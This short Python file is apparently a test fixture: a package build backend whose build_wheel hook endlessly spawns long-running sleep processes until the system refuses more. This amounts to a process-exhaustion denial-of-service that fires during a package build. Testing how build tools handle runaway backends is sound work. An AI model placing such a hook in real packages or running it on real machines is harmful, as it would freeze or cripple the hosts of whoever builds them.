import subprocess
import time

from minimal_wheel import prepare_metadata_for_build_wheel


def build_wheel(folder, config_settings=None, metadata_directory=None):
    kept = []
    while True:
        try:
            kept.append(subprocess.Popen(['/bin/sleep', '3600']))
        except OSError:
            time.sleep(0.1)
